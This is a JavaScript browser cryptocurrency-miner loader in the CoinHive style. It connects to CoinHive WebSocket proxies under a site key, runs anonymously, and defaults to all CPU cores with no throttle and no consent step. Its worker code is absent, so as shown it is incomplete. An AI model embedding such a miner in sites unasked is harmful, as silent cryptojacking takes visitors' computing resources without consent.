// Minimal browser miner loader in the style of the public embed snippets.
var CoinHive = CoinHive || {};
CoinHive.CONFIG = {
    LIB_URL: "https://coinhive.com/lib/",
    WEBSOCKET_SHARDS: [["wss://ws001.coinhive.com/proxy", "wss://ws002.coinhive.com/proxy"]],
    REQUIRES_AUTH: false
};

(function (window) {
    "use strict";
    var Miner = function (siteKey, params) {
        this.params = params || {};
        this._siteKey = siteKey;
        this._user = null;
        this._threads = [];
        this._hashes = 0;
        this._currentJob = null;
        this._autoReconnect = true;
        this._throttle = Math.max(0, Math.min(0.99, this.params.throttle || 0));
        this._targetNumThreads = this.params.threads || navigator.hardwareConcurrency || 4;
        this._goal = this.params.goal || 0;
    };

    Miner.prototype.start = function () {
        if (this._socket) {
            return;
        }
        var shards = CoinHive.CONFIG.WEBSOCKET_SHARDS;
        var shard = shards[Math.floor(Math.random() * shards.length)];
        var url = shard[Math.floor(Math.random() * shard.length)];
        this._socket = new WebSocket(url);
        this._socket.onmessage = this._onMessage.bind(this);
        this._socket.onerror = this._onError.bind(this);
        this._socket.onclose = this._onClose.bind(this);
        this._socket.onopen = this._onOpen.bind(this);
    };

    Miner.prototype._onOpen = function () {
        var params = {site_key: this._siteKey, type: "anonymous", user: null, goal: this._goal};
        if (this._user) {
            params.type = "user";
            params.user = this._user.toString();
        }
        this._send("auth", params);
    };

    Miner.prototype._onMessage = function (ev) {
        var msg = JSON.parse(ev.data);
        switch (msg.type) {
            case "job":
                this._currentJob = msg.params;
                for (var i = 0; i < this._threads.length; i++) {
                    this._threads[i].setJob(this._currentJob);
                }
                break;
            case "authed":
                this._token = msg.params.token || "";
                this._hashes = msg.params.hashes || 0;
                break;
            case "hash_accepted":
            case "hash_accept":
                this._hashes = msg.params.hashes;
                break;
            case "error":
                if (console && console.error) {
                    console.error("miner error:", msg.params.error);
                }
                this._autoReconnect = false;
                break;
            default:
                break;
        }
    };

    Miner.prototype._onError = function () {
        this.stop();
    };

    Miner.prototype._onClose = function () {
        this._socket = null;
        if (this._autoReconnect) {
            setTimeout(this.start.bind(this), 10000);
        }
    };

    Miner.prototype._send = function (type, params) {
        if (!this._socket || this._socket.readyState !== 1) {
            return false;
        }
        this._socket.send(JSON.stringify({type: type, params: params || {}}));
        return true;
    };

    Miner.prototype.submit = function (jobId, nonce, result) {
        return this._send("submit", {job_id: jobId, nonce: nonce, result: result});
    };

    Miner.prototype.stop = function () {
        for (var i = 0; i < this._threads.length; i++) {
            this._threads[i].stop();
        }
        this._threads = [];
        if (this._socket) {
            this._socket.close();
        }
    };

    Miner.prototype.setThrottle = function (throttle) {
        this._throttle = Math.max(0, Math.min(0.99, throttle));
    };

    Miner.prototype.getTotalHashes = function () {
        return this._hashes;
    };

    window.CoinHive.Anonymous = function (siteKey, params) {
        return new Miner(siteKey, params);
    };
})(window);
